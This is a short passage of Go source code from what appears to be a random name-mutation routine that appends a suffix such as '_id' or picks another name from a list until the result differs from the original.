			out = name + []string{"1", "_", "[]", "s", "_id"}[g.IntN(5)]
		case 5:
			out = a.names[g.IntN(len(a.names))]
		}
		if out != name {
			return out
		}
	}
}
